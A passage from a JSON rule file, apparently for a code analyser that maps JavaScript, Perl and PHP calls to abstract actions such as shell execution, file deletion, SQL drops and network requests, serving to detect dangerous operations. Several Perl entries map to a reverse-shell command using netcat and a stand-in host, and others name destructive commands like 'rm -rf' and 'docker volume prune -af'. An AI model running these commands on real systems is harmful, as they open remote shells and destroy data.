-d","recv_string":"received","recv_multipart":"received","makefile":"received","communicate":"send $self $0:input | value $self","readlines":"value $self","expan\
-duser":"value $self","resolve":"value $self","absolute":"value $self","as_posix":"value $self","readline":"any-of $self","text":"value $0","glob":"glob $self $0\
-","rglob":"glob $self ** $0","iterdir":"folder $self","connect":"if-made connect $all","connect_ex":"connect $all","sendto":"transfer nc $0 $1","sendmail":"if-m\
-ade transfer sendmail $2 $self","send_message":"if-made transfer sendmail $0 $self","storbinary":"if-made transfer ftp $1 $self","request":"request-over $0 $1 $\
-2 $:body $:data $:json","exec_command":"shell $0","system":"if-made:library shell $0","kill":"if-made:any-process if-chosen kill $self | if-made:any-process run\
- pkill -KILL $:pid | if-made:psutil.Process run kill -KILL $origin","terminate":"if-made:any-process if-chosen kill $self | if-made:any-process run pkill -TERM \
-$:pid | if-made:psutil.Process run kill -TERM $origin","execute":"if-made:pending-delete run sql delete-all rows | sql $0:query:sql","write_database":"if-kept i\
-f-sign:database-address if-option:if_table_exists=replace run sql drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql \
-$0:query:sql","execute_query":"sql $0:query:sql","command":"sql $0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-m\
-ade:database value $self","get":"entry $self $0 | if-map environment $0 $1","items":"if-map pairs $self","add_argument":"declare-option $:default","start":"star\
-t-patcher","__enter__":"start-patcher","setattr":"if-made:monkeypatch imitate $0 $1 $2","parse_args":"options","parse_known_args":"options","list":"if-name:volu\
-mes entries docker-volume","prune":"if-name:volumes run docker volume prune -af"}},"javascript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":\
-"$#","interpolation":"template","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"program":"node","blocks":"braces","\
-member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"function_keywords":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"n\
-ode-argv","Deno.args":"args","process.env":"environment","Bun.env":"environment","process.stdin":"text"},"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-clou\
-d/","googleapis","firebase-admin","@azure/","@kubernetes/","stripe","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netl\
-ify/","netlify","@elastic/","@opensearch-project/","minio","@pinecone-database/","@qdrant/","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth\
-0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-appwrite","dots-wrapper","contentful-management","@digitalocean/","hcloud-js","@linode/","oci-"\
-,"@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/","jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@\
-mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-client","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi\
-/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3Client","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js","path.sep":"/","process.e\
-xecPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[["\\\\.(?:promises|default)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"]\
-,["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModule|this|process)\\\\.(?=globalThis|global|process|require|module|constructor|eval|Function|mainMo\
-dule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\\\\.(\\\\w+?)Sync$","$1.$2"],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(\
-?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],["^\\\\.{1,2}/(?:[\\\\w./-]*[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle\
-"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^(?:.*\\\\.)?constructor\\\\.constructor$|^(?:Async|Generator)Function$","Function"]],"functions":{"\
-console.log":"print","console.info":"print","process.stdout.write":"print","require":"module $0","import":"module $0","process.getBuiltinModule":"module $0","pr\
-ocess.binding":"module $0","jest.requireActual":"module $0","vi.importActual":"module $0","createRequire":"name require","module.createRequire":"name require","\
-eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewContext":"eval $0","vm.runInContext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $las\
-t","setTimeout":"if-arg:text eval $0","child_process.exec":"shell $0 $:input","execa.execaCommand":"shell $0 $:input","shelljs.exec":"shell $0 $:input","$":"she\
-ll $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe $0 $1","stream/promises.pipeline":"pipe $0 $1","execa":"if-arg:map name $ | spawn $0 $1:args $\
-:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","child_process.spawn":"spawn $0 $1:args $:shell $:input","child_process.exe\
-cFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $0 $1:args $:shell $:input","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.s\
-pawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:stdin:input","Bun.write":"write $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write \
-$0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1","Uint8Array":"value $:usual=","Buffer.alloc":"value $:usual=","Deno.execPath":"value deno","li\
-bnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publish":"run npm publish $0","ps-list":"if-none entries any-process","find-process":"if-none entri\
-es any-process","fkill":"run pkill -f $0","keytar.findCredentials":"run secret-tool lookup x","keytar.getPassword":"run secret-tool lookup x","keytar.findPasswo\
-rd":"run secret-tool lookup x","level.Level":"made store $0:path","level":"made store $0:path","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"ma\
-de store $0:path","rocksdb":"made store $0:path","leveldown":"made store $0:path","nedb":"made store $:filename","@seald-io/nedb":"made store $:filename","bun.G\
-lob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-says:^https made service","ssh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run\
- git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git branch -D $:ref","isomorphic-git.checkout":"if-real if-option:force=true run git checkout -f",\
-"isomorphic-git.push":"if-option:force=true run git push --force $:remote $:ref","nodegit.Reset.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appe\
-ndFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.createReadStream":"read $0","Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:for\
-ce run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-\
-option:recursive run rm -r $0 | if-option:force run rm -f $0 | run rm $0","fs.unlink":"run rm $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","\
-fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extra.remove":"run rm -rf $0","fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w\
-","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.truncate":"run truncate -s 0 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remov\
-e-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryRun","del.del":"remove-matches $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-m\
-atches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"remove-matches $0","rimraf":"remove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-\
-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git $0:baseDir","simple-git":"made git $0:baseDir","simple-git.default":"made git $0:baseDir","tar\
-.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bun.SQL":"name bun.sql","better-sqlite3":"made database $0","better-sqlite3.default":"made databa\
-se $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Database":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run \
-cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run\
- chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-option:withFileTypes=true calls-back folder $0 dirent | calls-back names $0","Deno.readDir":"calls-\
-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","gl\
-obby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tin\
-yglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:cwd","Object.entries":"pairs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.o\
-wnKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0\
-","process.setgid":"run setgid $0","process.cwd":"value .","Deno.cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environ\
-ment","Deno.env.get":"environment $0","path.join":"join-parts","path.posix.join":"join-parts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:u\
-rl:hostname:host $:body $:data $:json","http.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","https.request":"open-request $:meth\
-od=GET $0:url:hostname:host $:body $:data $:json","axios":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","got":"open-request $:method=GET\
- $0:url:hostname:host $:body $:data $:json","ky":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"open-request $:method=GET $\
-0:url:hostname:host $:body $:data $:json","request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fetch":"open-request $:method=\
-GET $0:url:hostname:host $:body $:data $:json","undici.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios.request":"open-requ\
-est $:method=GET $0:url:hostname:host $:body $:data $:json","http.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-bac\
-k request GET $0:url:hostname:host $:body $:data $:json","axios.get":"request GET $0:url:hostname:host $:body $:data $:json","got.get":"request GET $0:url:hostn\
-ame:host $:body $:data $:json","ky.get":"request GET $0:url:hostname:host $:body $:data $:json","superagent.get":"request GET $0:url:hostname:host $:body $:data\
- $:json","needle.get":"request GET $0:url:hostname:host $:body $:data $:json","$.get":"request GET $0:url:hostname:host $:body $:data $:json","axios.post":"open\
--request POST $0:url:hostname:host $:body $:data $:json $1","got.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request \
-POST $0:url:hostname:host $:body $:data $:json $1","superagent.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","needle.post":"open-reques\
-t POST $0:url:hostname:host $:body $:data $:json $1","$.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:\
-url:hostname:host $:body $:data $:json $1","got.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:\
-host $:body $:data $:json $1","superagent.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:ho\
-st $:body $:data $:json $1","$.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:bod\
-y $:data $:json $1","got.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:d\
-ata $:json $1","superagent.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:bo\
-dy $:data $:json $1","$.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body\
- $:data $:json $1","got.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body \
-$:data $:json $1","superagent.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","needle.delete":"open-request DELETE $0:url:hostname:ho\
-st $:body $:data $:json $1","$.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","net.connect":"calls-back connect $1:host=localhost $0\
-:port","net.createConnection":"calls-back connect $1:host=localhost $0:port","tls.connect":"calls-back connect $1:host=localhost $0:port","net.Socket":"made cli\
-ent","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lookup":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-s\
-ign:connects made mock | made rows","@electric-sql/pglite.PGlite":"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $\
-0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","sinon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imita\
-te $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock","vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@te\
-stcontainers/postgresql.PostgreSqlContainer":"made container","pg.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"if-\
-gets:container if-no-sign:reads-environment made database :memory:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizz\
-le":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"sql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.Web\
-Socket":"made connection $0","pm2.delete":"run pm2 delete $0","Object.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker\
-":"if-option:eval=true eval $0","URL":"if-args:2 value $self | value $0","fs.opendir":"calls-back folder $0 dirent","Proxy":"made proxy $1","node-linux.Service"\
-:"made service","node-windows.Service":"made service","node-mac.Service":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzl\
-e-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettled":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder \
-$0 below","std.expandGlob":"folder $0 below","Reflect":"value","Reflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0\
- append","send":"send $self $0 append","install":"if-made:service run systemctl enable --now x","end":"if-args:1 send $self $0 append","connect":"if-made:client\
- calls-back connect $1:host=localhost $0:port","pipe":"pipe $self $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListene\
-r":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","finally":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","ge\
-tConnectionUri":"if-made:container value $self","mockImplementation":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","moc\
-kResolvedValue":"answer-spy $0 returned","mockRejectedValue":"answer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","re\
-jects":"answer-spy $0 returned","listen":"if-made:msw if-option:onUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close":"if-made:msw end-imi\
-tation requests","toString":"value $self","text":"value $self","json":"value $self","unref":"value $self","bind":"made bound $self $1..","delete":"if-made:drizz\
-le if-no-sign:limits run sql delete-all rows | if-database if-arg:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:truncate=true run sql t\
-runcate rows | if-option:where={} run sql delete-all rows","getVolume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $\
-origin","runInThisContext":"if-made:vm-script eval $origin","runInNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-script eval $origin","\
-push":"if-list append $self $all","unshift":"if-list append $self $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut\
-":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLoc\
-alBranches":"if-git if-says:^true$ run git branch -D","sendMail":"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":"if-stored program re\
-dis-cli $all","multi":"if-stored program redis-cli $all","scanStream":"if-stored entries keys","scanIterator":"if-stored entries keys","keys":"if-stored if-args\
-:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-made:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-ma\
-de:rows if-no-sign:limits run sql update-all rows","reset":"if-made:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|\
-^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clean -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell\
- $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0","remove":"if-made:docker-volume run docker volume rm $self | if-database if-empty run sql dele\
-te-all $owner","pruneVolumes":"run docker volume prune -af","drop":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:text","execute":"sql $\
-0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$executeRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $\
-0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql \
-$0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery":"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table rows","getSiblingDB":"\
-name db","getSisterDB":"name db","getDB":"name db","getCollection":"name db.collection","explain":"name cache","runCommand":"if-option:dropDatabase run sql drop\
--database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all\
-","adminCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-\
-option:dropAllUsersFromDatabase run sql drop-user all","dropUser":"if-database run sql drop-user $owner","dropAllUsers":"if-database run sql drop-user $owner","\
-shutdownServer":"if-database run sql shutdown $owner","truncate":"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","inter\
-polation":"dollar","triple":false,"single_escapes":false,"quoting":"q","heredoc":"perl","patterns":true,"lines":"none"},"program":"perl","blocks":"braces","memb\
-er_operators":["->","::"],"concatenation_operators":[".","x"],"bare_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":\
-"joined-args","$ENV":"environment","%ENV":"environment","$_":"text","STDIN":"text"},"sdks":[],"texts":{"$0":"./program.pl","STDIN":"\\ufffc"},"aliases":{},"rewri\
-tes":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","C\
-wd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","shift":"take $0","pop":"take $0","print":"print text","say":"print line","readline":"input","syst\
-em":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command\
- $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.exa\
-mple.net 443 | command $all","readpipe":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e \
-/bin/sh shell.example.net 443 | command $all","capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.system\
-x":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.exam\
-ple.net 443 | command $all","eval":"eval $0","unlink":"run rm $all","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove\
-_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $\
-1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run\
- fork","open":"open-perl $1 $2..","find":"find","finddepth":"find","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob \
-$0","readdir":"names .","LoadFile":"read $0","YAML.XS.LoadFile":"read $0","YAML.LoadFile":"read $0","read_file":"read $0","File.Slurp.read_file":"read $0","slur\
-p":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","recv":"received","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run s\
-etuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.OpenSSH.new":"made ssh","Net.SSH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new\
-":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"made rest","MongoDB.connect":"made mongo","MongoDB.MongoClient.new":"made mongo","Net.LDAP.new":\
-"made service","Net.LDAPS.new":"made service","MIME.Lite.attach":"sends-files","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.pa\
-th":"join $all"},"methods":{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","captur\
-e2":"if-made:ssh command $all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:s\
-sh value $self","delete":"if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_form\
-":"if-made:rest request-over POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mongo\
- value $self","ns":"if-made:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored ent\
-ries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text w\
-rite $self $0","spew_utf8":"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self"\
-,"children":"if-text folder $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":[\
-"//","#"],"block_comment":["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","patterns":fa\
-lse,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keywords\
-":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"},"sdks":["\
-drupal.entitytypemanager","aws.","google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client\
-","rdsclient","dynamodbclient","route53client","sqsclient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","eksclient","ecs\
-client","ecrclient","snsclient","ssmclient","elasticacheclient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","cloudfrontcli\
-ent","cloudwatchlogsclient","cognitoidentityproviderclient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptuneclient","doc\
-dbclient","apigatewayclient","acmclient","storageclient","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elastic.","hubs\
-pot.","auth0.","cloudinary."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\\w+iterato\
-r|splfileobject|pdo|process|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made memcached","e\
-val":"eval $0","assert":"if-arg:text eval $0","create_function":"eval $1","storage.disk":"if-says:^(s3|gcs|azure|r2|spaces|minio) made service","config":"if-say\
-s:(secret|password|token|[-_.]key)$ secret","dump":"print line","dd":"print line","var_dump":"print line","print_r":"print line","include":"include $0","require\
-":"include $0","include_once":"include $0","require_once":"include $0","system":"shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","pope\
-n":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlin\
-k":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run chown $1 $0","wp_insert_user":"if-says:^administrator$ run wp user create --role=a\
-dministrator","wp_delete_post":"if-args:2 run sql delete-all posts","wp_delete_attachment":"if-args:2 run sql delete-all posts","wp_delete_user":"if-args:2 run \
-sql delete-all posts","wp_delete_comment":"if-args:2 run sql delete-all posts","wp_delete_term":"if-args:2 run sql delete-all posts","file_get_contents":"if-arg\
-s:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_source":"read $0","highlight_file":"read\
- $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_load_file":"read $0","socket_read":"rec\
-eived","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_contents":"write $0 $1 $2","fopen":"open $0 \
-$1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run setuid $0","pcntl_fork":"if-sign:repea\
-ts run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0","curl_exec":"request GET $0","curl_se\
-topt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^DELETE$ request DELETE $0 | if-says:^\
-CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"environment $0","dirname":"dirname $0"\
-,"getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fread":"if-gets:peer received | if-gets\
-:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline":"if-gets:peer received | if-gets:co\
-nnection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"folder $0","directoryiterator":"folder $\
-0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"value $0","array_slice":"value $0","arr\
-ay_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sql $1","mysqli_real_query":"sql $1","s\
-qlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql $0","db.delete":"sql $0","db.update":\
-"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","schema.dropifexists":"run sql drop-table\
- $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path":"join app $0","database_path":"join \
-database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.deletedirectory":"run rm -rf $0","file.cl\
-eandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made rest $all","httpclient.create":"if-sig\
-n:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline":"if-arg:text shell $0","process.run"\
-:"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest","http.withbasicauth":"made rest","htt\
-p.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1","ssh2":"made ssh","ssh2_exec":"shell \
-$1"},"methods":{"set_role":"if-says:^administrator$ run wp user create --role=administrator","add_role":"if-says:^administrator$ run wp user create --role=admin\
-istrator","query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sql $0","createquery":"sql $0","real_query":"\
-sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptablesql":"made whole","getdropschemasql":"made w\
-hole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-schema $owner","createquerybuilder":"made buil\
-der","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove":"if-made:filesystem run rm -rf $0","reque\
-st":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-made:rest request-over GET $0","selectdatab\
-ase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $self","getcollection":"if-made:mongo value $\
